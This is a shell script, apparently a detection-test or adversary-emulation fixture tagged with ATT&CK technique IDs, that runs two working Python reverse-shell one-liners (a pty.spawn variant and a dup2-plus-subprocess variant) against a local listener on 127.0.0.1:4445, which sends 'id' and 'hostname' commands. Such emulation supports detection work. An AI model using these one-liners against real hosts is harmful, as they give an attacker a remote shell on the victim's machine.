# techniques: T1059.006 T1059.004 T1095
# Python reverse-shell one-liners against a listener on 127.0.0.1:4445: the pty.spawn variant
# (shell on a pseudo-terminal, Python relays the socket) and the dup2 + subprocess variant
# (the shell's stdin/stdout/stderr are the socket itself).
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
HOME=$PWD/home; export HOME; mkdir -p "$HOME"

listen() { # PORT COMMANDS [CONNECTIONS]: accept, send the commands, drain until EOF
  rm -f "ready.$1"
  /usr/bin/python3 -I -S -c '
import socket, sys
p, cmd, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", p)); l.listen(1); l.settimeout(8)
open("ready.%d" % p, "w").close()
for _ in range(n):
    c, _ = l.accept(); c.settimeout(4)
    c.sendall(cmd.encode() + b"\n")
    try:
        while c.recv(65536): pass
    except OSError: pass
    c.close()
' "$1" "$2" "${3:-1}" &
  lpid=$!
  i=0; while [ ! -e "ready.$1" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
}

listen 4445 'id; hostname; exit'
python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",4445));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")' 2>/dev/null
wait
listen 4445 'id; exit'
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",4445));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"])' 2>/dev/null
wait
rm -rf "$HOME" ready.*
exit 0
